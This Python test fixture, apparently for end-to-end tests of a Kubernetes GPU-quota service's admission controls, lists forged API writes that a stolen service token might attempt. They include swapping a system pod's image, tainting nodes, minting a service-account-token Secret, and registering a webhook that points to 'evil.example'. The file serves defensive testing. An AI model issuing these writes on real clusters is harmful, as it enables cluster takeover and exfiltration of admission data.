"""Writes that a thief of the service's token would try, and the manifests that they are made of."""

import base64
from datetime import UTC, datetime
from typing import Any, Final

from ledger.kube.api.pod_gates import GATE
from ledger.kube.client import pod_role
from ledger.kube.hami import annotation_keys
from ledger.kube.hami.fence_label import LABEL
from tests.e2e.harness.cluster import Manifest
from webhook.configurations import webhook_configurations
from webhook.kinds.kind_catalog import KindCatalog

SPACE: Final = "gpuledger-system"
NAME: Final = "gpuledger"
TEAM: Final = "/api/v1/namespaces/team"
SYSTEM: Final = "/api/v1/namespaces/kube-system"
NODE: Final = "/api/v1/nodes/n1"
HOOKS: Final = "/apis/admissionregistration.k8s.io/v1"
UNIVERSE: Final = "/apis/gpuledger.io/v1alpha1/universeresourcequotas"
OWNER: Final = {"apiVersion": "v1", "kind": "Namespace", "name": "gone", "uid": "0"}
NOW: Final = datetime.now(UTC).isoformat(timespec="microseconds").replace("+00:00", "Z")
KEY: Final = "limits.nvidia.com/gpu"
UQ: Final = {"kind": "UniverseResourceQuota"}
HELD: Final = {"metadata": {"finalizers": ["example.com/held"]}}


def pod(name: str, node: str = "", gates: list[str] | None = None) -> Manifest:
    container = {"name": "main", "image": "none"}
    spec: Manifest = {
        "containers": [container],
        "schedulingGates": [{"name": g} for g in gates or ()],
    }
    return {"metadata": {"name": name}, "spec": spec | ({"nodeName": node} if node else {})}


def quota(name: str, **metadata: Any) -> Manifest:
    return {"metadata": {"name": name, **metadata}, "spec": {"hard": {KEY: "1"}}}


def image(text: str) -> Manifest:
    return {"spec": {"containers": [{"name": "main", "image": text}]}}


def hooks(kind: str) -> str:
    return f"{HOOKS}/{kind}webhookconfigurations"


def hook(name: str = NAME, **changes: Any) -> Manifest:
    """Return a validating configuration as the service registers it, and changes of its webhook."""
    return {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": "ValidatingWebhookConfiguration",
        "metadata": {"name": name},
        "webhooks": [validating() | changes],
    }


def found_configurations() -> tuple[Manifest, Manifest]:
    address = webhook_configurations.WebhookAddress(
        webhook_configurations.ServiceReference(SPACE, NAME), b"x"
    )
    reviewed = webhook_configurations.ReviewScope(
        ("nvidia.com/gpu",), KindCatalog.load(()), ("kube-system", SPACE)
    )
    return webhook_configurations.configurations(address, reviewed)


def validating() -> Manifest:
    return dict(found_configurations()[1]["webhooks"][0])


def mutating() -> Manifest:
    return dict(found_configurations()[0]["webhooks"][0])


def mutator(**changes: Any) -> Manifest:
    return hook() | {"kind": "MutatingWebhookConfiguration", "webhooks": [mutating() | changes]}


def rules(group: str, resource: str) -> list[Manifest]:
    return [
        {"apiGroups": [group], "apiVersions": ["*"], "resources": [resource], "operations": ["*"]}
    ]


def events(namespace: str) -> str:
    return f"/apis/events.k8s.io/v1/namespaces/{namespace}/events"


def event(
    kind: str = "Pod",
    reporter: str = "gpuledger.io/gpuledger",
    reason: str = "WaitingForQuota",
    **metadata: Any,
) -> Manifest:
    return {
        "metadata": {"generateName": "e-", "namespace": "team", **metadata},
        "regarding": {"kind": kind, "namespace": "team", "name": "p", "apiVersion": "v1"},
        "type": "Normal",
        "reason": reason,
        "action": "Tell",
        "eventTime": NOW,
        "reportingController": reporter,
        "reportingInstance": reporter,
    }


def gates(*names: str) -> Manifest:
    return {"spec": {"schedulingGates": [{"name": name} for name in names]}}


def lock(text: str) -> Manifest:
    return {"metadata": {"annotations": {annotation_keys.LOCK: text}}}


def room(text: str) -> Manifest:
    return {"metadata": {"annotations": {annotation_keys.ROOM_FOUND: text}}}


def used(amounts: dict[str, str]) -> Manifest:
    return {"status": {"used": amounts}}


def patched(path: str, change: Manifest) -> tuple[str, str, Manifest]:
    return "PATCH", path, change


def posted(path: str, body: Manifest) -> tuple[str, str, Manifest]:
    return "POST", path, body


def secret(name: str, kind: str = "Opaque", key: str = "tls.crt", **metadata: Any) -> Manifest:
    return {"metadata": {"name": name, **metadata}, "type": kind, "data": {key: "eA=="}}


SECRETS: Final = f"/api/v1/namespaces/{SPACE}/secrets"
TOKEN: Final = "kubernetes.io/service-account-token"
ELSEWHERE: Final = {"url": "https://evil.example/admission/validate", "caBundle": "eA=="}
OTHER_SERVICE: Final = {
    "service": {"namespace": "team", "name": NAME, "path": "/admission/validate"},
    "caBundle": base64.b64encode(b"x").decode(),
}
TOLERATED: Final = [
    {"key": f"node.kubernetes.io/{key}", "operator": "Exists", "effect": "NoExecute"}
    | {"tolerationSeconds": 300}
    for key in ("not-ready", "unreachable")
]
"""Tolerations that the API server adds to every pod; only more can be added."""
P: Final = f"{TEAM}/pods/p"
FENCED: Final = f"{TEAM}/pods/fenced"
Q: Final = f"{TEAM}/resourcequotas/q/status"
FORGED: Final[dict[str, tuple[str, str, Manifest]]] = {
    "image of a system pod": patched(f"{SYSTEM}/pods/critical", image("evil")),
    "image of a tenant's pod": patched(P, image("evil")),
    "tolerations": patched(P, {"spec": {"tolerations": [*TOLERATED, {"operator": "Exists"}]}}),
    "deadline": patched(f"{SYSTEM}/pods/critical", {"spec": {"activeDeadlineSeconds": 1}}),
    "node selector": patched(P, {"spec": {"nodeSelector": {"pool": "x"}}}),
    "foreign gate": patched(P, gates(GATE)),
    "label that a Service selects": patched(P, {"metadata": {"labels": {"app": "bank"}}}),
    "label of HAMi's": patched(P, {"metadata": {"labels": {annotation_keys.NODE: "n1"}}}),
    "label of its own that is no fence": patched(
        P, {"metadata": {"labels": {"gpuledger.io/other": "y"}}}
    ),
    "role of a replica": patched(P, {"metadata": {"labels": {pod_role.LABEL: "reviewer"}}}),
    "fence that is taken away": patched(FENCED, {"metadata": {"labels": {LABEL: None}}}),
    "annotation of others": patched(
        P, {"metadata": {"annotations": {"cni.example.com/address": "1.1.1.1"}}}
    ),
    "cards that a node has yet to hand out": patched(
        P, {"metadata": {"annotations": {"hami.io/vgpu-devices-to-allocate": "x"}}}
    ),
    "node of a pod's cards": patched(
        P, {"metadata": {"annotations": {annotation_keys.NODE: "n2"}}}
    ),
    "finalizer on a pod": patched(P, HELD),
    "owner of a pod": patched(P, {"metadata": {"ownerReferences": [OWNER]}}),
    "node made unschedulable": patched(NODE, {"spec": {"unschedulable": True}}),
    "node tainted": patched(NODE, {"spec": {"taints": [{"key": "k", "effect": "NoExecute"}]}}),
    "node labelled": patched(NODE, {"metadata": {"labels": {"pool": "trusted"}}}),
    "node held by a finalizer": patched(NODE, HELD),
    "cards of a node": patched(
        NODE, {"metadata": {"annotations": {"hami.io/node-nvidia-register": "[]"}}}
    ),
    "keeper of a node": patched(
        NODE, {"metadata": {"annotations": {"gpuledger.io/keeper": "hami"}}}
    ),
    "lock of 200 kB": patched(NODE, lock("x" * 200_000)),
    "lock that names no pod": patched(NODE, lock("for ever")),
    "room of 200 kB": patched(NODE, room("1" * 200_000)),
    "room that names no time": patched(NODE, room("for ever")),
    "quota in kube-system": posted(f"{SYSTEM}/resourcequotas", quota("stop")),
    "quota with a finalizer": posted(
        f"{TEAM}/resourcequotas", quota("held", finalizers=["example.com/held"])
    ),
    "quota with labels": posted(f"{TEAM}/resourcequotas", quota("l", labels={"a": "b"})),
    "usage that Kubernetes counts": patched(Q, used({"pods": "999", "limits.cpu": "1"})),
    "finalizer through a status": patched(Q, HELD),
    "label through a status": patched(Q, {"metadata": {"labels": {"a": "b"}}}),
    "limits through a status": patched(Q, {"status": {"hard": {KEY: "9999"}}}),
    "webhook of another name": posted(hooks("validating"), hook("other")),
    "webhook at a URL": posted(hooks("validating"), hook(clientConfig=ELSEWHERE)),
    "webhook of another Service": posted(hooks("validating"), hook(clientConfig=OTHER_SERVICE)),
    "webhook that reads Secrets": posted(hooks("validating"), hook(rules=rules("", "secrets"))),
    "webhook on everything": posted(hooks("validating"), hook(rules=rules("*", "*"))),
    "webhook on roles": posted(
        hooks("validating"), hook(rules=rules("rbac.authorization.k8s.io", "clusterroles"))
    ),
    "webhook on slices": posted(
        hooks("validating"), hook(rules=rules("resource.k8s.io", "resourceslices"))
    ),
    "webhook in kube-system": posted(hooks("validating"), hook(namespaceSelector={})),
    "mutating webhook on Deployments": posted(
        hooks("mutating"), mutator(rules=rules("apps", "deployments"))
    ),
    "mutating webhook that fails closed": posted(hooks("mutating"), mutator(failurePolicy="Fail")),
    "event in another's name": posted(events("team"), event(reporter="kubelet")),
    "event about a Node": posted(events("default"), event("Node", namespace="default")),
    "event about a Deployment": posted(events("team"), event("Deployment")),
    "event about a pod of another namespace": posted(events("default"), event(namespace="default")),
    "event that reports something else": posted(events("team"), event(reason="Scheduled")),
    "Secret of another name": posted(SECRETS, secret("other")),
    "Secret with the token of an account": posted(
        SECRETS,
        secret(
            "gpuledger-tls",
            TOKEN,
            annotations={"kubernetes.io/service-account.name": "gpuledger-scheduler"},
        ),
    ),
    "Secret with something else": posted(SECRETS, secret("gpuledger-tls", key="password")),
    "Secret with a finalizer": posted(
        SECRETS, secret("gpuledger-tls", finalizers=["example.com/held"])
    ),
    "event with a finalizer": posted(events("team"), event(finalizers=["example.com/held"])),
}
